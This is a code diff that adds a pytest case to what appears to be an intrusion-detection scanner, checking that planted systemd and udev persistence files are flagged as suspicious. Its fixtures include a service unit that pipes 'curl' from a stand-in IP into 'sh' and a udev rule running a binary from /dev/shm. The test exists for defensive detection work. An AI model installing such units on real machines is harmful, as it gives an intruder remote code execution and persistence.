@@ -84,6 +84,25 @@ def test_what_was_planted_of_late(root: Path, name: str, technique: str) -> None
     complete(findings)
 
 
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("usr/lib/systemd/system/x.service", "[Service]\nExecStart=sh -c 'curl http://203.0.113.9/x|sh'\n"),
+        ("usr/lib/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/dev/shm/x"\n'),
+    ],
+)
+def test_a_unit_that_does_what_intruders_do_is_suspicious_at_any_age(
+    root: Path, name: str, data: str
+) -> None:
+    plant(root, name, 0o644, data.encode())
+    item = found(root, later=LATER).named(f"/{name}")
+    assert item.verdict is Verdict.SUSPICIOUS
+    assert item.evidence[1].source.startswith(f"/{name}:")
+    plant(root, name, 0o644, b"[Service]\nExecStart=/usr/bin/true\n")
+    item = found(root, later=LATER).named(f"/{name}")
+    assert item.verdict is Verdict.NOTABLE
+
+
 def test_what_has_long_been_there_is_notable(root: Path) -> None:
     plant(root, "usr/bin/lss")
     findings = found(root, later=LATER)
